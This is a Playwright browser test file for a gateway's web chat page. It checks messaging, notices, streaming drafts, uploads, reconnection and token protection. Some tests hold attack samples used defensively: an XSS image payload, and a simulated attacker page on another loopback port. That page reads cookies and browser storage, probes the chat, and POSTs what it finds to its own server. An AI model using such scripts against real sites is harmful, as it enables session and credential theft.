import { createServer as createHttpServer, type IncomingHttpHeaders } from 'node:http';
import type { AddressInfo } from 'node:net';
import WebSocket from 'ws';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { artifactPath, CHROMIUM, hasChromium, launchChromium } from '../../testing/browser.js';
import { freePort } from '../../testing/free-port.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { agentInboxPath, INBOX_CONSUMER } from '../../core/layout.js';
import { createLogger } from '../../core/logger.js';
import { parseMessageContent } from '../../core/message.js';
import { createTestHome, startedInbox, waitFor, type TestHome } from '../../testing/index.js';
import { openThread } from '../../thread/index.js';
import { Gateway } from '../gateway.js';
import { GatewayState } from '../state.js';
import { XgwConfigSchema, type WebchatChannelConfig } from '../types.js';
import { createWebchatChannel } from './webchat.js';

/**
 * The web chat page in a real browser (Debian's chromium, driven by playwright-core) against a
 * real Gateway, GatewayState and agent inbox in a temp THECLAW_HOME. Screenshots go to
 * `.test-artifacts/webchat-*.png` for a human to look at.
 */
// Runs in the page (the project's tsconfig has no DOM types).
declare function getComputedStyle(element: unknown): { whiteSpace: string; lineHeight: string };

const PHONE = { width: 390, height: 844 };

let testHome: TestHome;
let home: string;
let state: GatewayState;
let gateway: Gateway;
let channel: ReturnType<typeof createWebchatChannel>;
let browser: Browser;
let url: string;
let base: string;
let sparePort: number;

beforeAll(async () => {
  if (!hasChromium) return;
  testHome = createTestHome();
  home = testHome.home;
  startedInbox(home);
  sparePort = await freePort();
  const config = XgwConfigSchema.parse({
    channels: [
      { id: 'webchat:main', type: 'webchat', port: 0, access: 'open' },
      // Restarted by the reconnect test, so on a fixed port the page can find again.
      { id: 'webchat:spare', type: 'webchat', port: sparePort, access: 'open' },
      // Shared links the owner gave, each with a message that gets no answer (see that test).
      { id: 'webchat:listed', type: 'webchat', port: 0, access: 'allowlist' },
      { id: 'webchat:paired', type: 'webchat', port: 0, access: 'pairing' },
      { id: 'webchat:lost', type: 'webchat', port: 0, access: 'open' },
      { id: 'webchat:small', type: 'webchat', port: 0, access: 'open', media: { max_bytes: 1000 } },
    ],
    routes: [
      { channel: 'webchat:lost', peer: '*', agent: 'ghost' },
      { channel: '*', peer: '*', agent: 'admin' },
    ],
  });
  state = new GatewayState(home);
  gateway = new Gateway({ home, config, state, logger: createLogger(join(home, 'logs', 'xgw.log')) });
  channel = createWebchatChannel(config.channels[0] as WebchatChannelConfig);
  await gateway.startChannel(channel);
  url = channel.status().url!;
  base = new URL(url).origin;
  browser = await launchChromium();
});

afterAll(async () => {
  if (!hasChromium) return;
  await browser?.close();
  await channel?.stop();
  state?.close();
  testHome?.cleanup();
});

function inboxEvents() {
  const thread = openThread(agentInboxPath(home, 'admin'), { home });
  try {
    return thread.peek();
  } finally {
    thread.close();
  }
}

// Runs in the page.
declare const localStorage: { getItem(key: string): string | null; setItem(key: string, value: string): void };

/** The peer id the server issued this browser (its credential kept in its origin's localStorage, never a cookie). */
async function peerOf(page: Page): Promise<string> {
  const credential = await waitFor(() => page.evaluate(() => localStorage.getItem('xgw_peer_credential')), 'the peer credential the server issued', 5_000);
  expect(credential).toMatch(/^[0-9a-f]{32}\.[0-9a-f]{64}$/);
  return credential.split('.')[0]!;
}

async function openChat(context: BrowserContext, address = url): Promise<Page> {
  const page = await context.newPage();
  await page.goto(address);
  await page.locator('#status[data-state="online"]').waitFor();
  return page;
}

async function say(page: Page, text: string): Promise<void> {
  await page.locator('#input').fill(text);
  await page.locator('#input').press('Enter');
}

const agentBubbles = (page: Page) => page.locator('.row.agent:not(.typing) .bubble');

describe.skipIf(!hasChromium)(`webchat page in a browser (needs ${CHROMIUM})`, () => {
  it('sends to the agent inbox, shows replies with their line breaks, and shows a missed reply from history', async () => {
    const context = await browser.newContext({ viewport: PHONE, deviceScaleFactor: 2, isMobile: true, hasTouch: true });
    try {
      const page = await openChat(context);
      expect(page.url()).toBe(`${base}/`); // the token left the URL bar
      const peer = await peerOf(page);
      expect(await context.cookies(base)).toEqual([]); // cookies would reach every port of the host

      await say(page, 'Hello agent, what is on my calendar?');
      const event = await waitFor(() => inboxEvents()[0], 'the message in the inbox');
      expect(event.source).toBe(`external:webchat:main:dm:${peer}:${peer}`);
      const content = parseMessageContent(event.content);
      expect(content.text).toBe('Hello agent, what is on my calendar?');
      expect(content.reply_context).toMatchObject({ kind: 'external', channel_id: 'webchat:main', conversation_type: 'dm', conversation_id: peer, peer_id: peer });
      await expect.poll(() => page.locator('.row.user.pending').count()).toBe(0); // acknowledged
      await page.locator('.row.typing').waitFor(); // waiting for the reply
      await expect.poll(() => page.locator('#input').inputValue()).toBe('');

      const replyTo = content.reply_context!.kind === 'external' ? content.reply_context!.message_id : undefined;
      await gateway.send({ channel: 'webchat:main', peer, text: 'line one\nline two', replyTo });
      const reply = agentBubbles(page).first();
      await reply.waitFor();
      expect(await reply.textContent()).toBe('line one\nline two');
      expect(await reply.evaluate((el) => getComputedStyle(el).whiteSpace)).toBe('pre-wrap');
      const lineHeight = await reply.evaluate((el) => parseFloat(getComputedStyle(el).lineHeight));
      expect((await reply.boundingBox())!.height).toBeGreaterThan(1.8 * lineHeight); // two lines shown
      await page.locator('.row.typing').waitFor({ state: 'detached' });

      // Markup in a reply is text, never HTML.
      await gateway.send({ channel: 'webchat:main', peer, text: 'Your day:\n• 09:30 stand-up\n• 14:00 dentist <img src=x onerror="document.title=1">\nSee https://example.org/agenda.' });
      await expect.poll(() => agentBubbles(page).count()).toBe(2);
      expect(await page.locator('.bubble img').count()).toBe(0);
      expect(await agentBubbles(page).nth(1).textContent()).toContain('<img src=x');
      expect(await page.locator('.bubble a').getAttribute('href')).toBe('https://example.org/agenda');
      await say(page, 'Thanks!\nAnd remind me at 13:30, please.');
      await expect.poll(() => page.locator('.row.user:not(.pending)').count()).toBe(2);
      await page.screenshot({ path: artifactPath('webchat-phone.png') });

      // A reply while the page is closed waits in the mailbox and is shown on return.
      await page.close();
      await gateway.send({ channel: 'webchat:main', peer, text: 'Reminder set for 13:30.' });
      const again = await openChat(context, `${base}/`);
      await agentBubbles(again).filter({ hasText: 'Reminder set for 13:30.' }).waitFor();
      expect(await again.locator('.row.user .bubble').allTextContents()).toEqual(['Hello agent, what is on my calendar?', 'Thanks!\nAnd remind me at 13:30, please.']);
      expect(await agentBubbles(again).count()).toBe(3);
      await again.screenshot({ path: artifactPath('webchat-phone-history.png') });
    } finally {
      await context.close();
    }
  });

  it('keeps the typing dots after a delayed notice and ends them with the answer or an error notice, both shown as notices', async () => {
    const context = await browser.newContext({ viewport: PHONE, deviceScaleFactor: 2, isMobile: true, hasTouch: true });
    try {
      const page = await openChat(context);
      const peer = await peerOf(page);
      await say(page, 'Are you there?');
      await page.locator('.row.typing').waitFor();
      await gateway.send({ channel: 'webchat:main', peer, text: 'Sorry for the wait: the model cannot be reached.', notice: 'delayed' });
      await page.locator('.row.agent.notice').filter({ hasText: 'Sorry for the wait' }).waitFor();
      expect(await page.locator('.row.typing').count()).toBe(1); // the answer is still to come
      await gateway.send({ channel: 'webchat:main', peer, text: 'Yes, I am.' });
      await page.locator('.row.typing').waitFor({ state: 'detached' });
      expect(await page.locator('.row.agent.notice').count()).toBe(1);

      await say(page, 'And now?');
      await page.locator('.row.typing').waitFor();
      await gateway.send({ channel: 'webchat:main', peer, text: 'I could not answer: the model refused the request (401). The owner has been told.', notice: 'error' });
      await page.locator('.row.typing').waitFor({ state: 'detached' });
      expect(await page.locator('.row.agent.notice .bubble').allTextContents()).toEqual([
        'Sorry for the wait: the model cannot be reached.',
        'I could not answer: the model refused the request (401). The owner has been told.',
      ]);
      await page.screenshot({ path: artifactPath('webchat-notices.png') });
    } finally {
      await context.close();
    }
  });

  it('never shows the typing dots for a message that will not be answered, and says why: not admitted, pairing slots full, a missing agent, a stopped agent', async () => {
    const channels = ['webchat:listed', 'webchat:paired', 'webchat:lost'].map((id) =>
      createWebchatChannel(
        XgwConfigSchema.parse({ channels: [{ id, type: 'webchat', port: 0, access: id === 'webchat:listed' ? 'allowlist' : id === 'webchat:paired' ? 'pairing' : 'open' }] })
          .channels[0] as WebchatChannelConfig,
      ),
    );
    for (const c of channels) await gateway.startChannel(c);
    // Three strangers hold the pairing slots: the fourth gets no code.
    for (const stranger of ['s1', 's2', 's3']) expect(state.requestPairing('webchat:paired', stranger, undefined)).toMatchObject({ code: expect.any(String) });
    const context = await browser.newContext({ viewport: PHONE });
    const unanswered = async (address: string, text: string, why: string): Promise<Page> => {
      const page = await openChat(context, address);
      await say(page, text);
      await page.locator('.row.user.unanswered').filter({ hasText: text }).waitFor();
      await page.locator('.row.system').filter({ hasText: why }).waitFor();
      expect(await page.locator('.row.typing').count()).toBe(0);
      expect(await page.locator('.row.user.unanswered .meta').textContent()).toContain('not answered');
      await page.reload(); // the history says so too: no dots come back
      await page.locator('#status[data-state="online"]').waitFor();
      await page.locator('.row.system').filter({ hasText: why }).waitFor();
      expect(await page.locator('.row.typing').count()).toBe(0);
      return page;
    };
    try {
      const before = inboxEvents().length;
      await unanswered(channels[0]!.status().url!, 'let me in', 'not on the allowlist');
      await unanswered(channels[1]!.status().url!, 'let me pair', 'too many pending pairing requests');
      await (await unanswered(channels[2]!.status().url!, 'anyone?', 'agent "ghost", which does not exist')).screenshot({ path: artifactPath('webchat-not-answered.png') });
      expect(inboxEvents()).toHaveLength(before); // none of them reached an agent

      // A stopped agent: the message waits in its inbox, the page says so instead of the dots.
      const inbox = openThread(agentInboxPath(home, 'admin'), { home });
      inbox.unsubscribe(INBOX_CONSUMER);
      try {
        const page = await openChat(context);
        await say(page, 'are you stopped?');
        await page.locator('.row.user.waiting').filter({ hasText: 'are you stopped?' }).waitFor();
        expect(await page.locator('.row.user.waiting .meta').textContent()).toContain('waits for the agent');
        await page.locator('.row.system').filter({ hasText: 'agent start admin' }).waitFor();
        expect(await page.locator('.row.typing').count()).toBe(0);
        expect(parseMessageContent(inboxEvents().at(-1)!.content).text).toBe('are you stopped?'); // kept for when it starts
      } finally {
        inbox.subscribe({ consumer: INBOX_CONSUMER, handler: 'true' });
        inbox.close();
      }
    } finally {
      await context.close();
      for (const c of channels) await c.stop();
    }
  });

  it('shows the answer as it is written in place of the dots, and the answer replaces it: one message, also in another tab', async () => {
    const context = await browser.newContext({ viewport: PHONE });
    try {
      const page = await openChat(context);
      const other = await openChat(context); // the same person's second tab
      const peer = await peerOf(page);
      await say(page, 'Write me a long answer');
      const event = await waitFor(() => inboxEvents().find((e) => e.source.endsWith(`:${peer}`) && parseMessageContent(e.content).text === 'Write me a long answer'), 'the message');
      const replyTo = (parseMessageContent(event.content).reply_context as { message_id: string }).message_id;
      await page.locator('.row.typing').waitFor();
      const target = { peerId: peer, conversationType: 'dm', conversationId: peer };
      const draft = page.locator('.row.agent.draft .bubble');
      for (const text of ['Once upon', 'Once upon a time there was', 'Once upon a time there was a web chat']) {
        gateway.draft('webchat:main', target, replyTo, text);
        await expect.poll(() => draft.textContent()).toBe(text);
        expect(await page.locator('.row.typing').count()).toBe(0); // the draft says it: no dots below it
      }
      await other.locator('.row.agent.draft .bubble', { hasText: 'a web chat' }).waitFor();
      await page.screenshot({ path: artifactPath('webchat-streaming.png') });

      // The model turned to a command: the draft goes, the dots come back.
      gateway.draft('webchat:main', target, replyTo, '');
      await page.locator('.row.agent.draft').waitFor({ state: 'detached' });
      await page.locator('.row.typing').waitFor();
      gateway.draft('webchat:main', target, replyTo, 'The answer, at last');
      await draft.filter({ hasText: 'The answer, at last' }).waitFor();

      await gateway.send({ channel: 'webchat:main', peer, replyTo, text: 'The answer, at last, in full.', idempotencyKey: 'answer-1' });
      for (const tab of [page, other]) {
        await agentBubbles(tab).filter({ hasText: 'The answer, at last, in full.' }).waitFor();
        expect(await tab.locator('.row.agent.draft').count()).toBe(0);
        expect(await agentBubbles(tab).allTextContents()).toEqual(['The answer, at last, in full.']);
        expect(await tab.locator('.row.typing').count()).toBe(0);
      }
      // A draft that arrives after its answer (sent before it) is not shown below it.
      gateway.draft('webchat:main', target, replyTo, 'The answer, at');
      await page.reload();
      await page.locator('#status[data-state="online"]').waitFor();
      expect(await agentBubbles(page).allTextContents()).toEqual(['The answer, at last, in full.']); // only the answer was stored
      expect(await page.locator('.row.agent.draft').count()).toBe(0);
    } finally {
      await context.close();
    }
  });

  it('uploads a file with the message: stored in the agent files by content, shown in the message; one too large is not sent, and says why', async () => {
    const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=', 'base64');
    const small = createWebchatChannel(
      XgwConfigSchema.parse({ channels: [{ id: 'webchat:small', type: 'webchat', port: 0, access: 'open', media: { max_bytes: 1000 } }] }).channels[0] as WebchatChannelConfig,
    );
    await gateway.startChannel(small);
    const context = await browser.newContext({ viewport: PHONE });
    try {
      const page = await openChat(context, small.status().url!);
      const peer = await peerOf(page);
      await page.locator('#file').setInputFiles({ name: 'dot.png', mimeType: 'image/png', buffer: png });
      await expect.poll(() => page.locator('#attached').textContent()).toContain('dot.png');
      expect(await page.locator('#send').isDisabled()).toBe(false); // a file alone can be sent
      await say(page, 'what is this?');
      const event = await waitFor(() => inboxEvents().find((e) => e.source.endsWith(`:${peer}`)), 'the message in the inbox');
      const content = parseMessageContent(event.content);
      expect(content.text).toBe('what is this?');
      const sha = createHash('sha256').update(png).digest('hex');
      expect(content.attachments).toEqual([{ type: 'image', path: `files/${sha}.png`, bytes: png.length, mime_type: 'image/png', name: 'dot.png' }]);
      expect(readFileSync(join(home, 'agents', 'admin', 'files', `${sha}.png`))).toEqual(png);
      await page.locator('.row.user:not(.pending) .file', { hasText: 'dot.png' }).waitFor();
      expect(await page.locator('#attached').isHidden()).toBe(true);
      await page.screenshot({ path: artifactPath('webchat-upload.png') });

      await page.locator('#file').setInputFiles({ name: 'big.bin', mimeType: 'application/octet-stream', buffer: Buffer.alloc(5000, 1) });
      await page.locator('#input').press('Enter');
      await page.locator('.row.user.failed .file', { hasText: 'big.bin' }).waitFor();
      await page.locator('.row.system', { hasText: 'too large' }).waitFor();
      expect(await page.locator('.row.typing').count()).toBe(0);
      expect(inboxEvents().filter((e) => e.source.endsWith(`:${peer}`))).toHaveLength(1);
      await page.reload(); // the history shows the file it carried
      await page.locator('#status[data-state="online"]').waitFor();
      await page.locator('.row.user .file', { hasText: 'dot.png' }).waitFor();
    } finally {
      await context.close();
      await small.stop();
    }
  });

  it('gives two browsers different peer ids and shows each only its own replies', async () => {
    const contextA = await browser.newContext({ viewport: { width: 1100, height: 760 }, colorScheme: 'dark' });
    const contextB = await browser.newContext({ viewport: PHONE });
    try {
      const pageA = await openChat(contextA);
      const pageB = await openChat(contextB);
      const [peerA, peerB] = [await peerOf(pageA), await peerOf(pageB)];
      expect(peerA).not.toBe(peerB);

      await say(pageA, 'I am A');
      await say(pageB, 'I am B');
      await waitFor(() => inboxEvents().filter((e) => e.source.endsWith(`:${peerA}`) || e.source.endsWith(`:${peerB}`)).length === 2, 'both messages');
      await gateway.send({ channel: 'webchat:main', peer: peerA, text: 'only for A' });
      await gateway.send({ channel: 'webchat:main', peer: peerB, text: 'only for B' });

      await agentBubbles(pageA).filter({ hasText: 'only for A' }).waitFor();
      await agentBubbles(pageB).filter({ hasText: 'only for B' }).waitFor();
      expect(await pageA.locator('.bubble').allTextContents()).toEqual(['I am A', 'only for A']);
      expect(await pageB.locator('.bubble').allTextContents()).toEqual(['I am B', 'only for B']);
      await pageA.screenshot({ path: artifactPath('webchat-desktop-dark.png') });
    } finally {
      await contextA.close();
      await contextB.close();
    }
  });

  it('shows that it is offline, reconnects when the gateway is back, and sends what was typed meanwhile', async () => {
    const spare = createWebchatChannel(XgwConfigSchema.parse({ channels: [{ id: 'webchat:spare', type: 'webchat', port: sparePort, access: 'open' }] }).channels[0] as WebchatChannelConfig);
    await gateway.startChannel(spare);
    const context = await browser.newContext({ viewport: PHONE });
    try {
      const page = await openChat(context, spare.status().url!);
      const peer = await peerOf(page);
      await spare.stop();
      await page.locator('#status[data-state="offline"]').waitFor();
      await say(page, 'written while offline');
      await page.locator('.row.user.pending').waitFor();
      await page.screenshot({ path: artifactPath('webchat-offline.png') });

      await spare.start(gateway.context());
      await page.locator('#status[data-state="online"]').waitFor({ timeout: 20_000 });
      await page.locator('.row.user.pending').waitFor({ state: 'detached' });
      const event = await waitFor(() => inboxEvents().find((e) => e.source === `external:webchat:spare:dm:${peer}:${peer}`), 'the offline message');
      expect(parseMessageContent(event.content).text).toBe('written while offline');
      expect(await page.locator('.row.user .bubble').allTextContents()).toEqual(['written while offline']);
    } finally {
      await context.close();
      await spare.stop();
    }
  });

  it('gives a server on another loopback port nothing usable: no token in cookies, storage, requests or sockets', async () => {
    // Another local user's server on another 127.0.0.1 port. Cookies ignore ports, so the
    // browser sends it whatever cookies the web chat set; its page also tries the web chat itself.
    const seen: IncomingHttpHeaders[] = [];
    const reports: string[] = [];
    const target = new URL(base);
    const script = `
      const out = { cookie: document.cookie, local: JSON.stringify(localStorage), session: JSON.stringify(sessionStorage) };
      const tries = [
        fetch('${base}/status.json', { credentials: 'include' }).then((r) => r.text()).then((t) => (out.statusJson = t), (e) => (out.statusJson = 'refused: ' + e)),
        fetch('${base}/', { credentials: 'include' }).then((r) => r.text()).then((t) => (out.page = t), (e) => (out.page = 'refused: ' + e)),
        new Promise((resolve) => {
          const ws = new WebSocket('ws://127.0.0.1:${target.port}/ws');
          ws.onmessage = (event) => { out.socket = String(event.data); ws.close(); resolve(); };
          ws.onerror = () => { out.socket = 'refused'; resolve(); };
        }),
      ];
      Promise.all(tries).then(() => fetch('/report', { method: 'POST', body: JSON.stringify(out) }));`;
    const attacker = createHttpServer((req, res) => {
      seen.push(req.headers);
      if (req.url === '/report') {
        let body = '';
        req.on('data', (chunk: Buffer) => (body += chunk.toString()));
        req.on('end', () => {
          reports.push(body);
          res.end();
        });
        return;
      }
      res.writeHead(200, { 'Content-Type': 'text/html' });
      res.end(`<!doctype html><title>elsewhere</title><script>${script}</script>`);
    });
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    const attackerPort = (attacker.address() as AddressInfo).port;
    const context = await browser.newContext();
    try {
      await openChat(context); // the owner opens the web chat with its token
      const page = await context.newPage();
      await page.goto(`http://127.0.0.1:${attackerPort}/`);
      const report = await waitFor(() => reports[0], "the other server's report");
      const token = new URL(url).searchParams.get('token')!;
      const gathered = JSON.stringify({ seen, report });
      expect(gathered).not.toContain(token);
      expect(JSON.parse(report)).toMatchObject({ socket: 'refused' });
      // Whatever cookies it got, replayed by a program that can forge the web chat's Origin, open nothing.
      const cookies = seen.map((headers) => headers.cookie).filter((cookie) => cookie !== undefined);
      for (const cookie of cookies) {
        const status = await new Promise<number>((resolve) => {
          const ws = new WebSocket(`ws://127.0.0.1:${target.port}/ws`, { headers: { Cookie: cookie }, origin: base });
          ws.on('unexpected-response', (_request, response) => resolve(response.statusCode ?? 0));
          ws.on('open', () => {
            ws.terminate();
            resolve(101);
          });
          ws.on('error', () => resolve(0));
        });
        expect(status, cookie).toBe(401);
      }
    } finally {
      await context.close();
      await new Promise((resolve) => attacker.close(resolve));
    }
  });

  it('shows the access page, not the chat, to a browser without the token', async () => {
    const context = await browser.newContext();
    try {
      const page = await context.newPage();
      await page.goto(`${base}/`);
      await page.locator('#status[data-state="denied"]').waitFor();
      expect(await page.locator('#status').textContent()).toContain('xgw status');
      // A wrong token is told at once, and so is a stale one the page kept.
      const response = await page.goto(`${base}/?token=${'0'.repeat(64)}`);
      expect(response!.status()).toBe(401);
      await page.evaluate(() => localStorage.setItem('xgw_token', '0'.repeat(64)));
      await page.goto(`${base}/`);
      await page.locator('#status[data-state="denied"]').waitFor();
    } finally {
      await context.close();
    }
  });
});
